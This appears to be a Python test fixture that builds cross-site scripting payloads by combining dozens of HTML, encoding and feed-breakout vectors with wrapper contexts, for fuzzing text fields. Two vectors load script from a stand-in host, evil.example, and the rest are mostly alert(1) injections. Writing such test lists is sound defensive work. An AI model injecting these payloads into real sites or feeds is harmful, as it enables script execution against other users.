"""Hostile strings for every field that takes text: markup, encodings, and XML breakouts.

Each vector is tried bare and inside the contexts a value lands in (text, an attribute, a
CDATA section, an entity-encoded feed element), so one list serves pages, feeds and JSON.
"""

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(document.domain)">',
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<style>@import 'javascript:alert(1)'</style>",
    "<div style=\"background:url('javascript:alert(1)')\">",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "]]><img src=x onerror=alert(1)>",
    "</description><item><title>injected</title>",
    "</title><script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    '{"a":"</script><script>alert(1)</script>"}',
    "<x onclick=alert(1)>click",
    "<p onmouseover=alert(1)>hover</p>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<isindex action=javascript:alert(1) type=image>",
    '<xss style="behavior:url(x.htc)">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<link rel=import href=//evil.example>",
    "<template><img src=x onerror=alert(1)></template>",
]

CONTEXTS = [
    "{}",
    "Great episode {}",
    "{} and more",
    "Line one\n{}\nline three",
    '"{}"',
    "'{}'",
    "<p>{}</p>",
    "Q&A: {} & friends",
]

PAYLOADS = [context.format(vector) for vector in VECTORS for context in CONTEXTS]
